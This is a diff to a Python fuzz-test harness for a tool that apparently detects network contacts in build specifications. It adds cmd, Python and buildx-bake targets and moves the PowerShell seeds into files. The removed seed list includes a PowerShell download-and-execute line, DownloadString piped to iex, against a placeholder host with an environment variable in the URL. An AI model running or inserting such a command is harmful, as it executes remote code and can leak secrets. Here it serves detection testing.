@@ -10,7 +10,7 @@ from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from functools import cache
 from pathlib import Path
-from typing import Any, NamedTuple
+from typing import Any, Final, NamedTuple
 
 from click.testing import CliRunner
 
@@ -257,19 +257,42 @@ def scripts() -> list[Seed]:
     return [("", one) for one in found]
 
 
-POWERSHELL = (
-    b"$u = 'https://a.example.com/x'; Invoke-WebRequest -Uri $u -OutFile x\nif ($env:X) { choco install -y nodejs }\n",
-    b'(New-Object Net.WebClient).DownloadString("https://b.example.com/$env:X") | iex\nInstall-Module Pester -Force\n',
-    b'foreach ($one in 1..3) {\n  irm -Uri "https://c.example.com/$one" `\n    -Method Get\n}\n',
-    b"@'\ntext\n'@ | Out-File y\n",
-)
+def written_for(kind: str) -> Callable[[], list[Seed]]:
+    """The inputs in a folder of their own, which is what no other test has of this kind."""
+    return lambda: [("", data) for data in tree(ROOT / "tests/fuzz/seeds" / kind).values()]
 
 
 def run_powershell(_: str, data: bytes) -> None:
+    run_in("powershell.exe", data)
+
+
+def run_cmd(_: str, data: bytes) -> None:
+    run_in("cmd.exe", data)
+
+
+def run_in(shell: str, data: bytes) -> None:
     text = data.decode("utf-8", "replace")
-    for shell in ("powershell.exe", "cmd.exe"):
-        spec = {"version": 0.2, "env": {"shell": shell}, "phases": {"build": {"commands": [text]}}}
-        contacts_of(json.dumps(spec).encode(), {})
+    spec = {"version": 0.2, "env": {"shell": shell}, "phases": {"build": {"commands": [text]}}}
+    contacts_of(json.dumps(spec).encode(), {})
+
+
+RUNNING: Final = b"version: 0.2\nphases:\n  build:\n    commands:\n      - python script.py\n"
+
+
+def run_python(_: str, data: bytes) -> None:
+    contacts_of(RUNNING, {"script.py": data})
+
+
+BAKING: Final = b"version: 0.2\nphases:\n  build:\n    commands:\n      - docker buildx bake\n"
+
+
+def run_bake(_: str, data: bytes) -> None:
+    contacts_of(BAKING, {"docker-bake.hcl": data, "Dockerfile": b"FROM golang:1.22\nRUN go build\n"})
+
+
+def bakes() -> list[Seed]:
+    place = ROOT / "tests/contacts/cases/buildx-bake/docker-bake.hcl"
+    return [("", place.read_bytes()), *written_for("bake")()]
 
 
 def run_log(_: str, data: bytes) -> None:
@@ -395,7 +418,10 @@ TARGETS: dict[str, Target] = {
     "dockerfile": Target(run_build, lambda: build_files("dockerfile")),
     "build-files": Target(run_build, lambda: build_files("build-files")),
     "shell": Target(run_shell, scripts),
-    "powershell": Target(run_powershell, lambda: [("", one) for one in POWERSHELL]),
+    "powershell": Target(run_powershell, written_for("powershell")),
+    "cmd": Target(run_cmd, written_for("cmd")),
+    "python": Target(run_python, written_for("python")),
+    "bake": Target(run_bake, bakes),
     "log": Target(run_log, lambda: [("", data) for data in tree(ROOT / "tests/diagnose/logs").values()]),
     "terraform": Target(run_terraform, plans),
     "cloudformation": Target(run_cloudformation, templates),
